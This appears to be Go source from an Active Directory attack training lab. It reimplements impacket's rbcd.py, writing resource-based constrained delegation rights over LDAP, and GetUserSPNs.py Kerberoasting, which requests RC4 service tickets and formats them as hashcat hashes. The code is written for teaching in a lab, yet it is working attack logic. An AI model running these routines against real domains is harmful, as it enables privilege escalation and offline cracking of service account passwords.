package scenarios

import (
	"context"
	"encoding/hex"
	"fmt"
	"strings"

	"github.com/doublehop/doublehop/dtyp"
	"github.com/doublehop/doublehop/krb/kdcclient"
	"github.com/doublehop/doublehop/krb/kmsg"
	"github.com/doublehop/doublehop/ldap"
)

// The directory as the tools see it, from the workstation, as the user:
//
//	ldap search BASE FILTER [ATTR...] [--as USER]        what LDP and ldapsearch show
//	ldap modify DN add|delete|replace ATTR [VALUE...]     what ADUC, setspn and ldapmodify write
//	ldap rbcd FROM TO [--as USER]                         impacket's rbcd.py -action write
//	attack kerberoast [--as USER]                         impacket's GetUserSPNs.py -request

func (e *Engine) ldapConn(ctx context.Context, a action) (*ldap.Conn, string, error) {
	view, err := e.T.View(ctx)
	if err != nil {
		return nil, "", err
	}
	dc := view.Lab.HostByRole("kdc")
	if dc == nil {
		return nil, "", fmt.Errorf("the lab has no DC")
	}
	c, err := e.client(a.user, a.offset)
	if err != nil {
		return nil, "", err
	}
	if _, _, err := c.TGT(); err != nil {
		if err := e.kinit(ctx, a); err != nil {
			return nil, "", err
		}
	}
	conn, err := c.LDAP(ctx, dc.Name)
	return conn, view.Lab.DomainDN(), err
}

func (e *Engine) ldap(ctx context.Context, a action) (string, error) {
	if len(a.pos) == 0 {
		return "", fmt.Errorf("ldap wants search, modify or rbcd")
	}
	conn, base, err := e.ldapConn(ctx, a)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	var out strings.Builder
	switch a.pos[0] {
	case "search":
		if len(a.pos) < 3 {
			return "", fmt.Errorf("ldap search BASE FILTER [ATTR...]")
		}
		b := a.pos[1]
		if b == "" {
			b = base
		}
		entries, err := conn.Search(b, ldap.ScopeSubtree, a.pos[2], a.pos[3:]...)
		ldap.WriteLDIF(&out, entries)
		return out.String(), err
	case "modify":
		if len(a.pos) < 4 {
			return "", fmt.Errorf("ldap modify DN add|delete|replace ATTR [VALUE...]")
		}
		op, ok := map[string]int{"add": ldap.ModAdd, "delete": ldap.ModDelete, "replace": ldap.ModReplace}[a.pos[2]]
		if !ok {
			return "", fmt.Errorf("ldap modify: %q is not add, delete or replace", a.pos[2])
		}
		var vals [][]byte
		for _, v := range a.pos[4:] {
			vals = append(vals, []byte(v))
		}
		if err := conn.Modify(a.pos[1], ldap.Change{Op: op, Attr: a.pos[3], Values: vals}); err != nil {
			return "", err
		}
		fmt.Fprintf(&out, "modifying entry %q\n", a.pos[1])
		return out.String(), nil
	case "rbcd":
		if len(a.pos) != 3 {
			return "", fmt.Errorf("ldap rbcd FROM TO")
		}
		return e.rbcdWrite(conn, base, a.pos[1], a.pos[2])
	}
	return "", fmt.Errorf("unknown ldap action %q (search, modify, rbcd)", a.pos[0])
}

// rbcdWrite does what rbcd.py -action write does: find both accounts, read
// the target's descriptor, add the delegating account's SID, write it back.
func (e *Engine) rbcdWrite(conn *ldap.Conn, base, from, to string) (string, error) {
	var out strings.Builder
	find := func(name string) (*ldap.Entry, error) {
		es, err := conn.Search(base, ldap.ScopeSubtree, "(sAMAccountName="+name+")", "objectSid", "msDS-AllowedToActOnBehalfOfOtherIdentity")
		if err != nil {
			return nil, err
		}
		if len(es) != 1 {
			return nil, fmt.Errorf("account %s not found", name)
		}
		return es[0], nil
	}
	src, err := find(from)
	if err != nil {
		return "", err
	}
	dst, err := find(to)
	if err != nil {
		return "", err
	}
	a, _ := src.Get("objectSid")
	sid, _, err := dtyp.ParseBinarySID(a.Vals[0])
	if err != nil {
		return "", err
	}
	var sids []dtyp.SID
	if cur, ok := dst.Get("msDS-AllowedToActOnBehalfOfOtherIdentity"); ok {
		sd, err := dtyp.ParseSecurityDescriptor(cur.Vals[0])
		if err != nil {
			return "", err
		}
		fmt.Fprintf(&out, "[*] Accounts allowed to act on behalf of other identity:\n")
		for _, s := range sd.AllowedSIDs() {
			fmt.Fprintf(&out, "[*]     %s\n", s)
			if s.String() == sid.String() {
				fmt.Fprintf(&out, "[+] %s can already impersonate users on %s via S4U2Proxy\n", from, to)
				return out.String(), nil
			}
		}
		sids = sd.AllowedSIDs()
	} else {
		fmt.Fprintf(&out, "[*] Attribute msDS-AllowedToActOnBehalfOfOtherIdentity is empty\n")
	}
	sids = append(sids, sid)
	if err := conn.Modify(dst.DN, ldap.Change{Op: ldap.ModReplace, Attr: "msDS-AllowedToActOnBehalfOfOtherIdentity", Values: [][]byte{dtyp.RBCDDescriptor(sids)}}); err != nil {
		fmt.Fprintf(&out, "[-] %v\n", err)
		return out.String(), err
	}
	fmt.Fprintf(&out, "[*] Delegation rights modified successfully!\n[*] %s can now impersonate users on %s via S4U2Proxy\n", from, to)
	return out.String(), nil
}

// kerberoast is GetUserSPNs.py -request: find the user accounts with SPNs
// over LDAP, ask the KDC for a ticket to each as the logged-on user, RC4
// first as the tool does, and print each in hashcat's format. Which etype
// the KDC picks is the lesson: an AES-only account gives an AES ticket
// ($krb5tgs$18$, far slower to crack than RC4's $krb5tgs$23$).
func (e *Engine) kerberoast(ctx context.Context, a action) (string, error) {
	conn, base, err := e.ldapConn(ctx, a)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	entries, err := conn.Search(base, ldap.ScopeSubtree,
		"(&(servicePrincipalName=*)(UserAccountControl:1.2.840.113556.1.4.803:=512)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))",
		"servicePrincipalName", "sAMAccountName")
	if err != nil {
		return "", err
	}
	c, err := e.client(a.user, a.offset)
	if err != nil {
		return "", err
	}
	tgt, _, err := c.TGT()
	if err != nil {
		return "", err
	}
	view, err := e.T.View(ctx)
	if err != nil {
		return "", err
	}
	addr, d := e.T.KDC()
	kc := &kdcclient.Client{Addr: addr, Realm: view.Lab.Realm, Dialer: d}
	var out strings.Builder
	fmt.Fprintf(&out, "ServicePrincipalName  Name\n")
	for _, en := range entries {
		fmt.Fprintf(&out, "%s  %s\n", strings.Join(en.Values("servicePrincipalName"), ","), en.Values("sAMAccountName")[0])
	}
	for _, en := range entries {
		user, spn := en.Values("sAMAccountName")[0], en.Values("servicePrincipalName")[0]
		rep, err := kc.TGS(ctx, kmsg.TGSRequest{Client: tgt.Info.PName, ClientRealm: tgt.Info.PRealm, TGT: tgt.Ticket, SessionKey: tgt.Info.Key,
			Service: kmsg.ParsePrincipalName(spn), Options: []int{kmsg.FlagForwardable}, ETypes: []int32{23, tgt.Info.Key.KeyType}})
		if err != nil {
			fmt.Fprintf(&out, "[-] Principal: %s - %v\n", user, err)
			continue
		}
		fmt.Fprintln(&out, roastHash(rep.Credential(), user, view.Lab.Realm, spn))
	}
	return out.String(), nil
}

// roastHash is the ticket's encrypted part in hashcat's format (modes 13100
// for RC4, 19600/19700 for AES128/AES256), as GetUserSPNs.py prints it.
func roastHash(cred kmsg.Credential, user, realm, spn string) string {
	et, c := cred.Ticket.EncPart.EType, cred.Ticket.EncPart.Cipher
	if et == 23 && len(c) > 16 {
		return fmt.Sprintf("$krb5tgs$23$*%s$%s$%s*$%s$%s", user, realm, spn, hex.EncodeToString(c[:16]), hex.EncodeToString(c[16:]))
	}
	if len(c) > 12 {
		return fmt.Sprintf("$krb5tgs$%d$%s$%s$*%s*$%s$%s", et, user, realm, spn, hex.EncodeToString(c[len(c)-12:]), hex.EncodeToString(c[:len(c)-12]))
	}
	return fmt.Sprintf("$krb5tgs$%d$%s (short ciphertext)", et, user)
}
